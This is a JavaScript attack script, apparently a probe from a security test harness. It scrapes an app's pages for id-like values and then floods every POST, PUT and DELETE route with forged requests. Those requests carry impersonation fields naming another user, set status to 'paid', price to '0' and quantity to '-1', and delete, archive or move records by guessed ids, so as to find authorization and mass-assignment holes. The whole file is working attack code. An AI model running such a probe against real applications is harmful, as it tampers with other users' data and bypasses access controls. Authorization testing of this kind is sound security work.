// Posts every route of the app with whatever looks like an id on its pages, and with fields that forms do not have.
async (insider) => {
  let tried = 0;
  const ids = new Set([insider.other.id, '1', '0']);
  for (const path of [insider.start, ...insider.routes.filter((one) => one.startsWith('GET ') && !one.includes('{')).map((one) => one.slice(4))]) {
    if (ids.size === 6) break;
    if (/logout|signout/i.test(path)) continue;
    const text = await (await fetch(path)).text().catch(() => '');
    for (const found of text.matchAll(/\b(?:[0-9]{12,19}|[0-9a-f]{16})\b/g)) {
      if (ids.size < 6) ids.add(found[0]);
    }
  }
  const forged = { owner: insider.other.id, owner_id: insider.other.id, person: insider.other.id, person_id: insider.other.id,
    user: insider.other.email, as: insider.other.email, from: insider.other.email, from_email: insider.other.email,
    is_read: 'true', is_starred: 'true', folder: 'archive', state: 'done', status: 'paid', kind: 'sent', price: '0',
    sent_at: '2020-01-01T00:00:00Z', now: '2020-01-01T00:00:00Z', all: '1', list: 'inbox', confirmed: 'true', verdict: 'passed',
    grindstone_session: '', name: 'Forged', text: 'Forged', subject: 'Forged', to: insider.other.email, quantity: '-1' };
  for (const route of insider.portion.filter((one) => /^(POST|PUT|DELETE) /.test(one) && !/signin|undo/.test(one))) {
    const [method, pattern] = route.split(' ');
    const verbs = pattern.includes('{verb}') ? ['archive', 'star', 'read', 'delete', 'label', 'move'] : [''];
    for (const id of ids) {
      for (const verb of verbs) {
        const fields = new URLSearchParams({ ...forged, id, thread: id, message: id, draft: id, item: id, channel: id, add: 'Forged' });
        const path = pattern.replace('{verb}', verb).replace(/\{[^}]+\}/g, id);
        // What is refused once is refused twice.
        for (let time = 0, goesOn = true; time < 2 && goesOn; time++) {
          tried++;
          goesOn = await fetch(path + '?' + fields, { method, body: method === 'DELETE' ? undefined : fields, redirect: 'manual' })
            .then((answer) => answer.ok || answer.type === 'opaqueredirect', () => false);
        }
        if (!pattern.includes('{') && tried > 400) break;
      }
    }
  }
  return JSON.stringify({ tried, loot: [] });
}
